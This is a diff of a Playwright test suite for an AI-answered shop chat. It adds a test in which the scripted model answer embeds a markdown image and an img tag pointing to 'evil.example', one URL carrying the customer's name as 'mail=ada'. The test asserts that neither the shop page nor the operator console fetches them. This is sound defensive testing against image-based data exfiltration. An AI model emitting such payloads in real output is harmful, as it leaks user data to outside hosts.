@@ -49,7 +49,7 @@ async function watch(page: Page): Promise<() => Promise<{ seen: string[]; announ
     page.evaluate(() => (window as unknown as { kept: { seen: string[]; announced: string[] } }).kept);
 }
 
-test("an answer is shown sentence by sentence, then once as what was said; a screen reader hears it once", async () => {
+test("[64] an answer is shown sentence by sentence, then once as what was said; a screen reader hears it once", async () => {
   model.script(ODD, { text: SENTENCES.join(" "), tokenMs: TOKEN_MS });
   const page = await stage.shop("ada");
   const watched = await watch(page);
@@ -86,4 +86,27 @@ test("what may not be said is never shown, and what was shown before it is taken
   await page.getByText("A person has this conversation now.").waitFor({ timeout: 40_000 });
   expect(await page.locator(".draft").count()).toBe(0);
   expect((await watched()).seen.join("\n")).not.toContain("refunded");
+});
+
+test("[29] a picture or markup that an answer asks for is fetched by nobody, neither the customer's page nor the operator's", async () => {
+  model.script(ODD, {
+    text: `${SENTENCES[0]} ![order](https://evil.example/a.png?mail=ada) <img src="https://evil.example/b.png"> ${SENTENCES[3]}`,
+  });
+  const asked: string[] = [];
+  const listen = (page: Page) =>
+    page.context().on("request", (request) => {
+      if (request.url().includes("evil.example")) asked.push(request.url());
+    });
+  const shop = await stage.shop("cleo");
+  listen(shop);
+  await say(shop, ODD);
+  await shop.locator(".message.agent:not(.draft) .bubble").first().waitFor({ timeout: 40_000 });
+  expect(await shop.locator(".log img").count()).toBe(0);
+  const id = await shop.evaluate(() => localStorage.getItem("recourse:northwind:cleo:conversation"));
+  const desk = await stage.console(/Olivia/);
+  listen(desk);
+  await desk.goto(`${stage.url}/console/conversations?conversation=${id}`);
+  await desk.getByText(ODD).first().waitFor();
+  expect(await desk.locator("img[src*=evil]").count()).toBe(0);
+  expect(asked).toEqual([]);
 });
